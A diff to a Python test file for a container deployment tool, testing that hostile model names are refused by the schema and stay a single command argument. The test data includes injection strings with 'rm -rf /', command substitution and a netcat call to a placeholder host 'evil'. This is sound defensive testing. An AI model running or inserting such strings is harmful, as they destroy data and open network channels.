@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
-from bgdeploy.errors import UsageError
+from bgdeploy.errors import SpecError, UsageError
 from bgdeploy.plan.container import ContainerPlan, plan_container, secret_values, server_args
 from bgdeploy.plan.names import LABEL_PREFIX, Colour, Layout
 from bgdeploy.spec import LoadedSpec
@@ -94,9 +96,18 @@ def test_runtime_command_replaces_the_arguments_with_placeholders_filled() -> No
     ]
 
 
-def test_hostile_model_name_stays_one_argument() -> None:
+def _with_model_name(loaded: LoadedSpec, name: str) -> LoadedSpec:
+    """The spec with a model name its schema refuses: argv safety must not depend on that pattern."""
+    model = loaded.spec.model.model_copy(update={"name": name})
+    return replace(loaded, spec=loaded.spec.model_copy(update={"model": model}))
+
+
+def test_hostile_model_name_is_refused_and_would_stay_one_argument() -> None:
     hostile = "x; rm -rf / && echo $(id) `id` | nc evil 1"
-    loaded = load(MINIMAL.replace(f"name: {MODEL}", f"name: '{hostile}'"))
+    with pytest.raises(SpecError) as refused:
+        load(MINIMAL.replace(f"name: {MODEL}", f"name: '{hostile}'"))
+    assert "model.name: must be a model id or path" in refused.value.render()
+    loaded = _with_model_name(spec(), hostile)
     args = server_args(loaded.spec)
     assert args[:2] == ["--model", hostile]
     assert args.count(hostile) == 2  # --model and --served-model-name, each one element
@@ -107,8 +118,8 @@ def test_hostile_model_name_stays_one_argument() -> None:
 
 def test_hostile_model_name_in_a_command_placeholder_stays_one_argument() -> None:
     hostile = "x; rm -rf /"
-    text = MINIMAL.replace(f"name: {MODEL}", f"name: '{hostile}'") + '  command: [serve, "{model}"]\n'
-    assert server_args(load(text).spec) == ["serve", hostile]
+    loaded = _with_model_name(spec('  command: [serve, "{model}"]\n'), hostile)
+    assert server_args(loaded.spec) == ["serve", hostile]
 
 
 # --- the container plan -----------------------------------------------------------------------------------
